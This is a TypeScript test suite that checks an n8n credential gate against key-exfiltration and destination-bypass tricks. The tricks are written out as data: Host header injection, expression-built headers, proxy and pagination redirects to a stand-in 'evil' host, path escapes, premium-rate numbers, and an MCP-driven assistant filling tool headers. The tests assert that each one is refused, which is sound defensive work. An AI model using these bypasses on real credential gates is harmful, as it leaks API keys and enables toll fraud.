/** Ways round the credential's gate, each tried through n8n's own nodes, and credentials with expressions. */
import assert from 'node:assert/strict';
import { createServer } from 'node:net';
import type { Server } from 'node:net';
import { after, afterEach, before, describe, it } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import type { IDataObject } from 'n8n-workflow';
import { CREDENTIAL_TYPE } from '../lib/package';
import { until } from '../lib/processes';
import { errorOf, output } from '../lib/rest';
import type { CredentialReference, Execution } from '../lib/rest';
import { listen } from '../lib/sockets';
import { callForward, chain, manualTrigger, node, rows } from '../lib/workflows';
import type { CallForwardCredential, WorkflowNode } from '../lib/workflows';
import { API_KEY, IS_V1, openWorld } from '../lib/world';
import type { World } from '../lib/world';

const LINE = '33612345678';
const MOBILE = '+33698765432';
const PREMIUM = '+33899000000';

let world: World;
/** Where the attacks want the key to go: hears everything, answers nothing. */
let elsewhere: Server;
let evil: string;
let heard = '';
/** Credentials that the HTTP Request node may use, without and with Allowed Destinations. */
let open: CredentialReference;
let guarded: CredentialReference;

before(async () => {
	world = await openWorld();
	elsewhere = createServer((socket) => {
		socket.on('error', () => undefined);
		socket.on('data', (bytes) => {
			heard += bytes.toString('latin1');
			socket.end('HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\nConnection: close\r\n\r\n');
		});
	});
	evil = `localhost:${await listen(elsewhere)}`;
	const all = { allowedHttpRequestDomains: 'all' } as const;
	open = await world.credentialWith(all);
	guarded = await world.credentialWith({ ...all, allowedDestinations: '+336' });
});
after(async () => {
	elsewhere?.close();
	await world?.close();
});
afterEach(() => {
	world.sandbox.reset();
	heard = '';
});

const url = (path: string): string => `${world.sandbox.baseUrl}/${path}`;

/** A node of n8n's that sends the credential's key along. */
const request = (
	type: string,
	version: number,
	parameters: IDataObject,
	key: CredentialReference,
	others: Record<string, CredentialReference> = {},
): WorkflowNode => {
	const common = {
		authentication: 'predefinedCredentialType',
		nodeCredentialType: CREDENTIAL_TYPE,
		url: url('me'),
		options: {},
	};
	const credentials = { [CREDENTIAL_TYPE]: key, ...others };
	const all = { ...common, ...parameters };
	return node('Request', `n8n-nodes-base.${type}`, version, all, { credentials });
};

const run = (...nodes: WorkflowNode[]): Promise<Execution> =>
	world.rest.execute(chain('Gate', [manualTrigger(), ...nodes]));

const GATE_TEXTS =
	/This address is not at|A header takes|The header|A GET goes out|The API key goes|With 'Allowed Destinations'|The destination is not allowed|This credential takes/;

function assertRefused(execution: Execution, text = GATE_TEXTS): void {
	assert.equal(execution.status, 'error', 'the request was let through');
	const error = errorOf(execution);
	assert.match(`${String(error?.message)} ${String(error?.description)}`, text);
	assert.deepEqual(world.sandbox.requests, []);
	assert.equal(heard, '', 'something arrived elsewhere');
	assert.ok(!execution.raw.includes(API_KEY), 'the key is in the execution');
}

const jsonHeaders = (headers: unknown): IDataObject => ({
	sendHeaders: true,
	specifyHeaders: 'json',
	jsonHeaders: JSON.stringify(headers),
});
const headerFields = (...parameters: IDataObject[]): IDataObject => ({
	sendHeaders: true,
	headerParameters: { parameters },
});
const postJson = (body: IDataObject, path = 'vn/callforward'): IDataObject => ({
	method: 'POST',
	url: url(path),
	sendBody: true,
	specifyBody: 'json',
	jsonBody: JSON.stringify(body),
});
const forward = (param: string): IDataObject => ({ number: LINE, type: 1, param });

/** One for each form in which a node of n8n's hands a request over. */
const ATTACKS: Record<string, () => IDataObject> = {
	'a Host header': () => headerFields({ name: ' hOST ', value: evil }),
	'headers for all requests': () => jsonHeaders({ common: { Host: evil } }),
	'an object from an expression': () =>
		headerFields({ name: 'common', value: `={{ { Host: '${evil}' } }}` }),
	'a form by its content type': () => ({
		...postJson({ ...forward(MOBILE), ' type': 1, ' param': PREMIUM }),
		...jsonHeaders({ 'Content-Type': 'application/x-www-form-urlencoded' }),
	}),
	'another host': () => ({ url: `http://${evil}/v1/me` }),
	'a proxy': () => ({ options: { proxy: `http://${evil}` } }),
	'ignored SSL issues': () => ({ options: { allowUnauthorizedCerts: true } }),
	'a destination that is not listed': () => postJson(forward(PREMIUM)),
	'an escape in the path': () => postJson(forward(PREMIUM), 'vn/%63allforward'),
	'the path in the query': () => ({
		...postJson(forward(PREMIUM), 'me'),
		sendQuery: true,
		queryParameters: { parameters: [{ name: '_url', value: '/v1/vn/callforward' }] },
	}),
	'a body of a GET': () => ({ ...postJson(forward(MOBILE), 'me'), method: 'GET' }),
	'a form': () => ({
		...postJson({}),
		contentType: 'form-urlencoded',
		specifyBody: 'keypair',
		bodyParameters: { parameters: [{ name: 'param', value: PREMIUM }] },
	}),
	'raw text': () => ({
		...postJson({}),
		contentType: 'raw',
		rawContentType: 'application/json',
		body: JSON.stringify(forward(PREMIUM)),
	}),
	'pagination that leads elsewhere': () =>
		paginated({ paginationMode: 'responseContainsNextURL', nextURL: `http://${evil}/v1/me` }),
	'pagination that changes a header': () => {
		const parameter = { type: 'headers', name: 'common', value: `={{ { Host: '${evil}' } }}` };
		const paginationMode = 'updateAParameterInEachRequest';
		return paginated({ paginationMode, parameters: { parameters: [parameter] } });
	},
};

const paginated = (pagination: IDataObject): IDataObject => {
	const end = { paginationCompleteWhen: 'other', completeExpression: '={{ true }}' };
	return { options: { pagination: { pagination: { ...end, ...pagination } } } };
};

for (const version of [3, 4.2, IS_V1 ? 4.3 : 4.4]) {
	const send = (
		parameters: IDataObject,
		key: CredentialReference,
		others?: Record<string, CredentialReference>,
	): Promise<Execution> => run(request('httpRequest', version, parameters, key, others));

	describe(`the HTTP Request node, version ${version}`, () => {
		it('reads the account and sets a line, with headers of gateways', async () => {
			const headers = ['X-Gateway-Key', 'X-RapidAPI-Host', 'HTTP-Referer', '_token'];
			const fields = headerFields(...headers.map((name) => ({ name, value: 'a' })));
			assert.equal((await send(fields, guarded)).status, 'success');
			const set = await send({ ...postJson(forward(MOBILE)), ...fields }, guarded);
			assert.equal(set.status, 'success', String(errorOf(set)?.message));
			assert.deepEqual(world.sandbox.line(LINE), { type: 1, param: MOBILE });
		});

		for (const [name, parameters] of Object.entries(ATTACKS)) {
			it(`is refused with ${name}`, async () => {
				assertRefused(await send(parameters(), guarded));
			});
		}

		it('is refused with a CA of its own in SSL Certificates', async () => {
			const data = { ca: 'PEM', cert: '', key: '', passphrase: '' };
			const httpSslAuth = await world.rest.saveCredential('httpSslAuth', data);
			assertRefused(await send({ provideSslCertificates: true }, guarded, { httpSslAuth }));
		});

		it('follows no redirect', async () => {
			const location = `http://${evil}/`;
			world.sandbox.addFault({ kind: 'redirect', endpoint: 'me', status: 307, location });
			await send({}, open);
			assert.equal(world.sandbox.requests.length, 1);
			assert.equal(heard, '');
		});

		it('cannot use a credential that nobody opened for it', async () => {
			assertRefused(await send({}, world.credential), /prevent use within an HTTP Request/);
		});
	});
}

// On 1.x it takes no credential of a service.
describe('the GraphQL node', { skip: IS_V1 }, () => {
	for (const name of ['common', 'post', 'Host']) {
		it(`is refused with a header ${name}`, async () => {
			const value = name === 'Host' ? evil : `={{ { Host: '${evil}' } }}`;
			const headerParametersUi = { parameter: [{ name, value }] };
			const query = { endpoint: url('vn/callforward'), query: '{ a }', headerParametersUi };
			assertRefused(await run(request('graphql', 1.1, query, open)));
		});
	}
});

describe('an assistant outside n8n, with a tool whose headers it fills in', () => {
	it('cannot send the key to another site', async () => {
		const parameters: IDataObject = {
			toolDescription: 'Reads the account',
			sendHeaders: true,
			specifyHeaders: 'json',
			jsonHeaders: "={{ $fromAI('headers', 'The headers as JSON', 'string') }}",
		};
		const tool = { ...request('httpRequestTool', 4.2, parameters, open), name: 'Account' };
		const trigger = node(
			'MCP Server Trigger',
			'@n8n/n8n-nodes-langchain.mcpTrigger',
			2,
			{ path: 'gate' },
			{ webhookId: crypto.randomUUID() },
		);
		await world.rest.createActive({
			...chain('MCP', [trigger]),
			nodes: [trigger, tool],
			connections: { Account: { ai_tool: [[{ node: trigger.name, type: 'ai_tool', index: 0 }]] } },
		});
		const address = new URL(`${world.n8n.url}/mcp/gate`);
		await until('the MCP server to be there', async () => {
			const { status } = await fetch(address, { method: 'POST' });
			return status === 404 ? undefined : true;
		});
		const client = new Client({ name: 'end-to-end', version: '1.0.0' });
		await client.connect(new StreamableHTTPClientTransport(address));
		try {
			const call = async (headers: object): Promise<string> => {
				const args = { headers: JSON.stringify(headers) };
				return JSON.stringify(await client.callTool({ name: 'Account', arguments: args }));
			};
			await call({ 'X-Request-Id': '1' });
			assert.equal(world.sandbox.requests.length, 1);
			for (const headers of [{ Host: evil }, { common: { Host: evil } }, { get: { Host: evil } }]) {
				assert.match(await call(headers), GATE_TEXTS);
			}
			assert.equal(world.sandbox.requests.length, 1);
			assert.equal(heard, '');
		} finally {
			await client.close();
		}
	});
});

/** The items of rows that the node under test set, by fields that expressions find in them. */
async function set(credential: CredentialReference, items: IDataObject[]): Promise<IDataObject[]> {
	const parameters = {
		virtualNumber: '={{ $json.number }}',
		mode: 'callForwarding',
		forwardingNumber: MOBILE,
	};
	const forwarding = callForward(parameters, credential, 'continueRegularOutput');
	return output(await run(...rows(items), forwarding), 'Call Forward');
}

describe('expressions in a credential', () => {
	const LINES = ['33612345678', '33612345679', '262692123456'];

	for (const list of ['{{ $vars.allowed }}', '{{ undefined }}', '{{ $json.nope }}', '{{ null }}']) {
		it(`refuses every destination where the list is ${list}`, async () => {
			const credential = await world.credentialWith({ allowedDestinations: `=${list}` });
			const [item] = await set(credential, [{ number: LINE }]);
			assert.deepEqual([item?.['status'], item?.['reason']], ['rejected', 'destinationNotAllowed']);
			assert.deepEqual(world.sandbox.requests, []);
		});
	}

	it('allows every destination where nobody entered a list', async () => {
		for (const fields of [{}, { allowedDestinations: '' }]) {
			const [item] = await set(await world.credentialWith(fields), [{ number: LINE }]);
			assert.equal(item?.['success'], true, JSON.stringify(item));
			world.sandbox.reset();
		}
	});

	const APPLIED = ['applied', undefined];
	const perRow: [string, Partial<CallForwardCredential>, string[], string][] = [
		['key', { apiKey: '={{ $json.own }}' }, [API_KEY, 'another-key', API_KEY], 'apiKeyRejected'],
		[
			'list',
			{ allowedDestinations: '={{ $json.own }}' },
			['', '+337', '+336'],
			'destinationNotAllowed',
		],
	];
	for (const [name, fields, values, reason] of perRow) {
		it(`are resolved for each row: its ${name}`, async () => {
			const rowsWithOwn = values.map((own, i) => ({ number: LINES[i], own }));
			const items = await set(await world.credentialWith(fields), rowsWithOwn);
			assert.deepEqual(
				items.map((item) => [item['status'], item['reason']]),
				[APPLIED, ['rejected', reason], APPLIED],
			);
			assert.deepEqual(
				LINES.map((line) => world.sandbox.line(line)?.type),
				[1, 0, 1],
			);
		});
	}
});

describe('a credential that n8n cannot read', () => {
	it('says why, in the words of n8n', async () => {
		const failing = await world.credentialWith({ apiKey: "={{ $('Nobody').item.json.key }}" });
		const deleted = await world.credentialWith({});
		await world.rest.data('DELETE', `/credentials/${deleted.id}`);
		const words: [CredentialReference, RegExp][] = [
			[failing, /n8n says: .*node/],
			[deleted, new RegExp(deleted.id)],
		];
		for (const [credential, text] of words) {
			const [item] = await set(credential, [{ number: LINE }]);
			assert.equal(item?.['reason'], 'credentialUnreadable', JSON.stringify(item));
			assert.match(String(item?.['description']), text);
		}
	});
});

it('sends to the Base URL as it was checked, and so does the test of the credential', async () => {
	const odd = world.sandbox.baseUrl.replace('http://127.0.0.1', ' HTTP://127.1') + '/x/..//\u200B ';
	const [item] = await set(await world.credentialWith({ baseUrl: odd }), [{ number: LINE }]);
	assert.equal(item?.['status'], 'applied', JSON.stringify(item));
	const tested = await world.rest.testCredential({ apiKey: API_KEY, baseUrl: odd });
	assert.equal(tested.status, 'OK', tested.message);
	const paths = world.sandbox.requests.map(({ path }) => path);
	assert.deepEqual(paths, ['/v1/vn/callforward', '/v1/me']);
});
